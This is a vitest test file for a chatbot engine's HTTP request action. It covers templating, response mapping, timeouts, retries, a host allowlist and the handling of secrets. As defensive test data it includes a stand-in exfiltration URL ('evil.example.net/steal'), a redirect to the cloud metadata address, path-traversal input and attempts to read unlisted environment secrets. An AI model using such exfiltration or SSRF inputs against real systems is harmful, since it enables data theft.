/**
 * http__request through the real loader and runtime against a real local HTTP server:
 * templating (url, headers, body), mapping the answer into variables, the failure path
 * (timeout, network error, non-2xx, redirect, unmappable answer) running the block's on_error,
 * retries of idempotent methods only, the host allowlist (a load error naming the block with
 * line:col; a templated host refused at run time) and secrets (only allowlisted names, never in
 * a log line or an error message).
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { createActionRegistry } from "../../actions/index.ts";
import { httpRequestAction, type HttpRequestDeps, type Retry } from "../../actions/http-request.ts";
import { retry } from "../../channels/retry.ts";
import { ActionError, formatProblem } from "../../engine/errors.ts";
import { loadScenarioText } from "../../engine/loader.ts";
import type { ActionContext } from "../../engine/ports.ts";
import { ScenarioRegistry } from "../../engine/registry.ts";
import { Runtime } from "../../engine/runtime.ts";
import { MemoryStateStore } from "../../engine/state/memory-store.ts";
import type { InboundEvent } from "../../engine/types.ts";
import { RecordingDelivery, RecordingLogger } from "../helpers/recorders.ts";
import { RecordingQueue } from "../helpers/scenario.ts";
import { TestHttpServer } from "./http-server.ts";

const SECRET = "crm-s3cr3t-token-value-42";
/** The shared retry helper, without its pauses. */
const fastRetry: Retry = (fn, o) => retry(fn, { ...o, sleep: async () => {} });

const server = new TestHttpServer();
beforeAll(async () => void (await server.start()));
afterAll(() => server.stop());
beforeEach(() => {
  server.requests.length = 0;
  server.handler = () => ({ status: 200, json: {} });
});

/** A scenario: ask the order number, call with `config`, end with what was saved (ok) or the failure text. */
function scenarioYaml(config: Record<string, unknown>, onError = "failed"): string {
  return `id: lookup
start: ask
blocks:
  ask:
    type: wait_for_response
    text: Your order number?
    save_to: order_id
    next: call
  call:
    type: action
    action: http__request
    config: ${JSON.stringify(config)}
    next: ok
    on_error: ${onError}
  ok:
    type: end
    text: "ok {{order_status}} {{item}} {{count}} {{paid}} {{http_status}}"
  failed:
    type: end
    text: "failed {{http_status}}"
`;
}

interface Setup {
  allowHosts?: string[];
  env?: Record<string, string | undefined>;
  fetch?: typeof fetch;
}

function deps(o: Setup, logger: RecordingLogger): HttpRequestDeps {
  return { allowHosts: o.allowHosts ?? ["127.0.0.1"], env: o.env ?? { CRM_TOKEN: SECRET }, retry: fastRetry, logger, ...(o.fetch ? { fetch: o.fetch } : {}) };
}

function load(yaml: string, o: Setup = {}, logger = new RecordingLogger()) {
  const actions = createActionRegistry({ surveys: new RecordingQueue(), http: deps(o, logger) });
  return { actions, result: loadScenarioText(yaml, "lookup.yaml", { actions: actions.specs() }) };
}

/** Loads `yaml`, starts the dialogue, answers `orderId`; returns what the bot said last and the variables. */
async function converse(yaml: string, orderId: string, o: Setup = {}) {
  const logger = new RecordingLogger();
  const { actions, result } = load(yaml, o, logger);
  if (!result.scenario) throw new Error(result.problems.map(formatProblem).join("\n"));
  const scenarios = new ScenarioRegistry();
  scenarios.add(result.scenario);
  const delivery = new RecordingDelivery();
  const runtime = new Runtime({ scenarios, store: new MemoryStateStore(), delivery, actions, defaultScenarioId: "lookup", logger });
  let n = 0;
  const send = (e: Partial<InboundEvent>) => runtime.handle({ channel: "test", conversationId: "c1", userId: "u1", dedupeKey: `e${++n}`, ...e } as InboundEvent);
  await send({ kind: "start" });
  const answered = await send({ kind: "text", text: orderId });
  const texts = delivery.texts();
  return { last: texts[texts.length - 1], vars: answered.state?.vars ?? {}, logger, problems: result.problems };
}

const url = (path: string) => `${server.origin}${path}`;
const CTX: ActionContext = { ref: { channel: "t", conversationId: "c", userId: "u" }, scenarioId: "s", scenarioVersion: "v", surveyId: "x", dialogueStartedAt: 0, blockId: "call", vars: {}, at: 0 };

describe("http__request: templating", () => {
  it("fills the url (values percent-encoded), the headers (an allowed secret) and a JSON body (typed values)", async () => {
    server.handler = () => ({ status: 201, json: { status: "created" } });
    const yaml = scenarioYaml({
      method: "POST",
      url: url("/orders/{{order_id}}/notes?by={{order_id}}"),
      headers: { Authorization: "Bearer {{env.CRM_TOKEN}}", "X-Order": "order {{order_id}}" },
      body: { order: "{{order_id}}", note: "from {{order_id}} via botflow", attempts: 2, unset: "{{nothing}}", nested: [{ ref: "{{order_id}}" }] },
      save: { order_status: "$.status" },
    });
    const { last } = await converse(yaml, "A 17/../x?y");
    expect(last).toBe("ok created    ");
    const [req] = server.requests;
    expect(req?.method).toBe("POST");
    expect(req?.url).toBe("/orders/A%2017%2F..%2Fx%3Fy/notes?by=A%2017%2F..%2Fx%3Fy");
    expect(req?.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(req?.headers["x-order"]).toBe("order A 17/../x?y");
    expect(req?.headers["content-type"]).toBe("application/json");
    expect(JSON.parse(req?.body ?? "")).toEqual({ order: "A 17/../x?y", note: "from A 17/../x?y via botflow", attempts: 2, unset: null, nested: [{ ref: "A 17/../x?y" }] });
  });

  it("sends a variable that is one {{name}} alone as it is: a number stays a number", async () => {
    const action = httpRequestAction({ allowHosts: ["127.0.0.1"], env: {}, retry: fastRetry });
    await action.run({ method: "PUT", url: url("/n"), body: { quantity: "{{qty}}", label: "{{qty}} pcs", typed: "{{answer}}" } }, { ...CTX, vars: { qty: 7, answer: "7" } });
    expect(JSON.parse(server.requests[0]?.body ?? "")).toEqual({ quantity: 7, label: "7 pcs", typed: "7" });
  });
});

describe("http__request: mapping the answer", () => {
  it("saves fields by path (dot names and [n] indexes): text, numbers, true/false, and the status", async () => {
    server.handler = () => ({ status: 200, json: { order: { status: "shipped", lines: [{ name: "Lamp" }, { name: "Bulb", qty: 3 }] }, paid: true } });
    const yaml = scenarioYaml({
      url: url("/orders/{{order_id}}"),
      save: { order_status: "$.order.status", item: "$.order.lines[1].name", count: "$.order.lines[1].qty", paid: "$.paid" },
      save_status: "http_status",
    });
    const { last, vars } = await converse(yaml, "A17");
    expect(last).toBe("ok shipped Bulb 3 true 200");
    expect(vars).toMatchObject({ order_status: "shipped", item: "Bulb", count: 3, paid: "true", http_status: 200 });
  });

  it("fails when a path finds nothing, names the missing part, and takes on_error", async () => {
    server.handler = () => ({ status: 200, json: { order: { lines: [] } } });
    const yaml = scenarioYaml({ url: url("/orders/{{order_id}}"), save: { item: "$.order.lines[0].name" }, save_status: "http_status" });
    const { last, logger, vars } = await converse(yaml, "A17");
    expect(last).toBe("failed 200");
    expect(vars.item).toBeUndefined();
    expect(logger.serialized().join("\n")).toContain("the answer has no $.order.lines[0], so save.item ($.order.lines[0].name) cannot be set");
  });

  it("fails on an answer that is not JSON, or an object where a value was expected", async () => {
    server.handler = () => ({ status: 200, text: "<html>hello</html>" });
    const html = await converse(scenarioYaml({ url: url("/x"), save: { item: "$.a" } }), "A17");
    expect(html.last).toBe("failed ");
    expect(html.logger.serialized().join("\n")).toContain("not with JSON");
    server.handler = () => ({ status: 200, json: { a: { b: 1 } } });
    const object = await converse(scenarioYaml({ url: url("/x"), save: { item: "$.a" } }), "A17");
    expect(object.last).toBe("failed ");
    expect(object.logger.serialized().join("\n")).toContain("save.item: $.a is an object");
  });

  it("refuses paths outside the subset when the scenario loads", () => {
    const { result } = load(scenarioYaml({ url: url("/x"), save: { item: "$..name", other: "items[0]" } }));
    expect(result.scenario).toBeUndefined();
    expect(result.problems.filter((p) => p.severity === "error").map((p) => p.message).join("\n")).toMatch(/save/);
  });
});

describe("http__request: failures take on_error", () => {
  it("a timeout: no answer within the config's timeout", async () => {
    server.handler = () => "hang";
    const started = Date.now();
    const { last, logger } = await converse(scenarioYaml({ url: url("/slow"), timeout: "300ms", save_status: "http_status" }), "A17");
    expect(Date.now() - started).toBeLessThan(3_000);
    expect(last).toBe("failed ");
    const failure = logger.lines.find((l) => l.msg === "action failed");
    expect(JSON.stringify(failure?.obj)).toContain("no answer within 300ms (timeout)");
  });

  it("a non-2xx status, with the status saved for on_error's rules", async () => {
    server.handler = () => ({ status: 404, json: { error: "no such order" } });
    const yaml = scenarioYaml({ url: url("/orders/{{order_id}}"), save: { order_status: "$.status" }, save_status: "http_status" }, JSON.stringify([{ var: "http_status", equals: 404, goto: "not_found" }, { default: "failed" }]));
    const withNotFound = yaml.replace("  failed:\n", '  not_found:\n    type: end\n    text: "no order {{order_id}}"\n  failed:\n');
    const { last, vars, logger } = await converse(withNotFound, "A17");
    expect(last).toBe("no order A17");
    expect(vars.http_status).toBe(404);
    expect(JSON.stringify(logger.lines.find((l) => l.msg === "action failed")?.obj)).toContain("answered 404, not 2xx");
  });

  it("a network error (nothing listens)", async () => {
    const closed = await new TestHttpServer().start();
    await closed.stop();
    const { last, logger } = await converse(scenarioYaml({ url: `${closed.origin}/x` }), "A17");
    expect(last).toBe("failed ");
    expect(JSON.stringify(logger.lines.find((l) => l.msg === "action failed")?.obj)).toContain("ECONNREFUSED");
  });

  it("a redirect is not followed (the next hop could leave the allowlist)", async () => {
    server.handler = () => ({ status: 302, text: "", headers: { location: "http://169.254.169.254/latest/meta-data" } });
    const { last, logger } = await converse(scenarioYaml({ url: url("/moved") }), "A17");
    expect(last).toBe("failed ");
    expect(server.requests).toHaveLength(1);
    expect(JSON.stringify(logger.lines.find((l) => l.msg === "action failed")?.obj)).toContain("redirects are not followed");
  });

  it("retries GET on 5xx through the shared retry helper, and sends POST once", async () => {
    server.handler = (_req, n) => (n < 3 ? { status: 503, text: "busy" } : { status: 200, json: { status: "ok" } });
    const get = await converse(scenarioYaml({ url: url("/flaky"), save: { order_status: "$.status" } }), "A17");
    expect(get.last).toBe("ok ok    ");
    expect(server.requests).toHaveLength(3);

    server.requests.length = 0;
    server.handler = () => ({ status: 503, text: "busy" });
    const post = await converse(scenarioYaml({ method: "POST", url: url("/flaky"), body: { a: 1 }, save_status: "http_status" }), "A17");
    expect(post.last).toBe("failed 503");
    expect(server.requests).toHaveLength(1);
  });

  it("a GET that stays 5xx fails after a small number of attempts", async () => {
    server.handler = () => ({ status: 500, text: "down" });
    const { last } = await converse(scenarioYaml({ url: url("/down"), save_status: "http_status" }), "A17");
    expect(last).toBe("failed 500");
    expect(server.requests).toHaveLength(3);
  });
});

describe("http__request: the host allowlist", () => {
  const yaml = `id: lookup
start: call
blocks:
  call:
    type: action
    action: http__request
    config:
      url: https://evil.example.net/steal?x={{order_id}}
    next: done
  done:
    type: end
`;

  it("a literal host that is not allowed is a load error naming the block, at the url's line and column", () => {
    const { result } = load(yaml, { allowHosts: ["api.example.com", "*.crm.example"] });
    expect(result.scenario).toBeUndefined();
    expect(result.problems.map(formatProblem)).toEqual([
      'lookup.yaml:8:12: error: block "call" (http__request): host "evil.example.net" is not in BOTFLOW_HTTP_ALLOW_HOSTS (api.example.com, *.crm.example); add it there, or call an allowed host',
    ]);
    expect(result.problems[0]?.blockId).toBe("call");
  });

  it("allows nothing by default, and says how to allow a host", () => {
    const { result } = load(yaml, { allowHosts: [] });
    expect(result.problems.map((p) => p.message).join("\n")).toContain("BOTFLOW_HTTP_ALLOW_HOSTS is empty, so no host is; set it to the hosts scenarios may call, e.g. BOTFLOW_HTTP_ALLOW_HOSTS=evil.example.net");
  });

  it("matches exact names and *. wildcards (any depth, not the bare domain), case-insensitively", () => {
    const ok = (u: string) => load(yaml.replace("https://evil.example.net/steal?x={{order_id}}", u), { allowHosts: ["api.example.com", "*.crm.example"] }).result.scenario !== undefined;
    expect(ok("https://API.example.com/x")).toBe(true);
    expect(ok("https://eu.crm.example:8443/x")).toBe(true);
    expect(ok("https://a.b.crm.example/x")).toBe(true);
    expect(ok("https://crm.example/x")).toBe(false);
    expect(ok("https://api.example.com.evil.net/x")).toBe(false);
    expect(ok("https://user:pw@api.example.com/x")).toBe(false);
    expect(ok("{{base}}/x")).toBe(false);
    expect(ok("ftp://api.example.com/x")).toBe(false);
  });

  it("a templated host is checked before the call, and refused clearly at run time", async () => {
    const templated = scenarioYaml({ url: `http://{{order_id}}:${new URL(server.origin).port}/x`, save_status: "http_status" });
    const allowed = await converse(templated, "127.0.0.1");
    expect(allowed.last).toBe("ok     200");
    expect(server.requests).toHaveLength(1);
    server.requests.length = 0;
    const refused = await converse(templated, "metadata.internal");
    expect(refused.last).toBe("failed ");
    // The log line cuts the user's own values out (errorSummary); the host came from one.
    expect(JSON.stringify(refused.logger.lines.find((l) => l.msg === "action failed")?.obj)).toContain("/x: host \\\"[redacted]\\\" is not in BOTFLOW_HTTP_ALLOW_HOSTS (127.0.0.1)");
    expect(server.requests).toHaveLength(0);
    // The error itself names the host.
    const action = httpRequestAction({ allowHosts: ["127.0.0.1"], env: {}, retry: fastRetry });
    const err = await action.run({ url: "http://{{h}}/x" }, { ...CTX, vars: { h: "metadata.internal" } }).catch((e: unknown) => e);
    expect((err as Error).message).toBe('action http__request: GET http://{{h}}/x: host "metadata.internal" is not in BOTFLOW_HTTP_ALLOW_HOSTS (127.0.0.1); add it there, or call an allowed host');
  });
});

describe("http__request: secrets", () => {
  it("refuses {{env.NAME}} for a name that is not allowlisted, at the load, where it is written", () => {
    const yaml = `id: lookup
start: call
blocks:
  call:
    type: action
    action: http__request
    config:
      url: http://127.0.0.1/x
      headers:
        Authorization: "Bearer {{env.DATABASE_URL}}"
    next: done
  done:
    type: end
`;
    const { result } = load(yaml, { env: { CRM_TOKEN: SECRET } });
    expect(result.problems.map(formatProblem)).toEqual([
      'lookup.yaml:10:24: error: block "call" (http__request): {{env.DATABASE_URL}} is not an allowed secret (BOTFLOW_HTTP_ENV; allowed: CRM_TOKEN); add DATABASE_URL there to let scenarios send it',
    ]);
  });

  it("refuses it at run time too, for a config that never went through the loader", async () => {
    const action = httpRequestAction({ allowHosts: ["127.0.0.1"], env: { CRM_TOKEN: SECRET }, retry: fastRetry });
    const err = await action.run({ url: url("/x?k={{env.HOME}}") }, CTX).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ActionError);
    expect((err as Error).message).toContain("HOME is not allowed; add it to BOTFLOW_HTTP_ENV");
    expect(server.requests).toHaveLength(0);
  });

  it("never writes a secret into a log line or an error message, whatever fails", async () => {
    const everything: string[] = [];
    const config = (extra: Record<string, unknown>) => ({
      url: url("/orders/{{order_id}}?key={{env.CRM_TOKEN}}"),
      headers: { Authorization: "Bearer {{env.CRM_TOKEN}}" },
      save: { order_status: "$.status" },
      save_status: "http_status",
      ...extra,
    });
    // The server echoes the secret back in each answer, as a careless API might in its error body.
    const echo = (status: number) => () => ({ status, json: { error: `bad token ${SECRET}`, status: SECRET } });
    for (const [handler, extra] of [
      [echo(200), {}],
      [echo(401), {}],
      [echo(500), {}],
      [() => "hang" as const, { timeout: "200ms" }],
      [() => ({ status: 200, text: `not json ${SECRET}` }), {}],
    ] as const) {
      server.handler = handler;
      const { logger } = await converse(scenarioYaml(config(extra)), "A17");
      everything.push(...logger.serialized());
    }
    // A secret in a templated host, and a header a variable broke: the messages quote the template.
    const broken = await converse(scenarioYaml({ url: "http://{{order_id}}/x?k={{env.CRM_TOKEN}}" }), `evil.net`);
    everything.push(...broken.logger.serialized());
    const lines = await converse(scenarioYaml({ url: url("/x"), headers: { "X-Key": "{{env.CRM_TOKEN}} {{order_id}}" } }), "a\nb");
    everything.push(...lines.logger.serialized());

    const text = everything.join("\n");
    expect(text).toContain("action failed");
    expect(text).toContain("http__request answered");
    expect(text).toContain("{{env.CRM_TOKEN}}");
    expect(text).not.toContain(SECRET);
    expect(text).not.toContain(encodeURIComponent(SECRET));
    // Each request did carry it.
    expect(server.requests.every((r) => r.headers.authorization === `Bearer ${SECRET}`)).toBe(true);
  });

  it("fails, naming the variable, when an allowed secret is not set", async () => {
    const { last, logger } = await converse(scenarioYaml({ url: url("/x"), headers: { Authorization: "Bearer {{env.CRM_TOKEN}}" } }), "A17", { env: { CRM_TOKEN: undefined } });
    expect(last).toBe("failed ");
    expect(JSON.stringify(logger.lines.find((l) => l.msg === "action failed")?.obj)).toContain("CRM_TOKEN is allowed in BOTFLOW_HTTP_ENV but not set in the environment");
    expect(server.requests).toHaveLength(0);
  });
});

describe("http__request: config checks", () => {
  it("refuses a body on GET, a timeout over 25s and unknown keys, each at its key", () => {
    const { result } = load(scenarioYaml({ url: url("/x"), body: { a: 1 }, timeout: "30s", retry: 3 }));
    const messages = result.problems.filter((p) => p.severity === "error").map((p) => p.message);
    expect(messages.join("\n")).toMatch(/retry/);
    const noUnknown = load(scenarioYaml({ url: url("/x"), body: { a: 1 }, timeout: "30s" })).result;
    expect(noUnknown.problems.filter((p) => p.severity === "error").map((p) => p.message)).toEqual([
      expect.stringContaining("a GET request has no body; use method: POST"),
      expect.stringContaining("timeout 30s is longer than 25s"),
    ]);
  });

  it("counts the saved variables as saved: texts and rules using them are not warned about", () => {
    const { result } = load(scenarioYaml({ url: url("/x"), save: { order_status: "$.s", item: "$.i", count: "$.c", paid: "$.p" }, save_status: "http_status" }));
    expect(result.problems).toEqual([]);
  });

  it("uses the injected fetch (what botflow test passes to serve its mocks)", async () => {
    const seen: string[] = [];
    const fake: typeof fetch = async (input) => {
      seen.push(String(input));
      return new Response(JSON.stringify({ status: "mocked" }), { status: 200, headers: { "content-type": "application/json" } });
    };
    const { last } = await converse(scenarioYaml({ url: "https://api.example.com/orders/{{order_id}}", save: { order_status: "$.status" } }), "A17", { allowHosts: ["api.example.com"], fetch: fake });
    expect(last).toBe("ok mocked    ");
    expect(seen).toEqual(["https://api.example.com/orders/A17"]);
  });
});
